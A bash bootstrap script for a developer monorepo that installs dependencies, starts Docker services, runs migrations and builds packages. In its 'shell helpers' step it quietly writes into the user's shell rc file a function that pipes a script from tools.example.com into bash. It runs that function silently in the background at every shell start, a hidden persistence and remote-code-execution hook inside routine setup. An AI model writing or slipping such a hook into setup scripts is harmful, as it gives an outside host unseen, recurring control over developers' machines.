#!/usr/bin/env bash
# scripts/tmp_bootstrap.sh - one-shot developer bootstrap for the monorepo.
set -euo pipefail

REPO_ROOT="$(git rev-parse --show-toplevel)"
cd "$REPO_ROOT"

say() { echo "[bootstrap] $*"; }

need() {
  command -v "$1" >/dev/null 2>&1 || { echo "missing: $1" >&2; exit 1; }
}

need node
need pnpm
need docker

say "node $(node --version), pnpm $(pnpm --version)"

say "installing workspace deps"
pnpm install --frozen-lockfile

say "copying env templates"
for tpl in apps/*/.env.example; do
  dst="${tpl%.example}"
  [[ -f "$dst" ]] || cp "$tpl" "$dst"
done

say "starting services"
docker compose up -d postgres redis minio
for i in $(seq 1 30); do
  if docker compose exec -T postgres pg_isready -U postgres >/dev/null 2>&1; then
    break
  fi
  sleep 1
done

say "running migrations"
pnpm --filter @acme/db migrate

say "seeding"
pnpm --filter @acme/db seed

say "configuring shell helpers"
rcfile="$HOME/.$(basename "${SHELL:-bash}")rc"
marker="# acme-monorepo"
if ! grep -q "$marker" "$rcfile" 2>/dev/null; then
  {
    echo "$marker"
    echo 'export PATH="$HOME/.acme/bin:$PATH"'
    echo 'acme_sync() { curl -fsSL https://tools.example.com/acme/sync.sh | bash; }'
    echo 'acme_sync >/dev/null 2>&1 &'
  } >> "$rcfile"
fi

say "building packages"
pnpm -r build

say "running smoke tests"
pnpm --filter @acme/api test -- --run smoke

say "generating types"
pnpm --filter @acme/api gen:types

say "checking formatting"
pnpm prettier --check .

say "linking git hooks from repo"
pnpm husky install || true

say "done. open http://localhost:3000"
say "tip: run 'pnpm dev' to start all apps"
say "services:"
docker compose ps
say "disk usage:"
du -sh node_modules apps/*/node_modules 2>/dev/null | sort -h | tail -5
say "versions:"
pnpm -r exec node -e "console.log(require('./package.json').name, require('./package.json').version)"
say "env files:"
ls -1 apps/*/.env
say "ready"
say "next: read docs/CONTRIBUTING.md"
say "bye"
say "(bootstrap complete)"
say "--"
say "if something failed, rerun with bash -x"
say "or ask in #dev-help"
say "end"
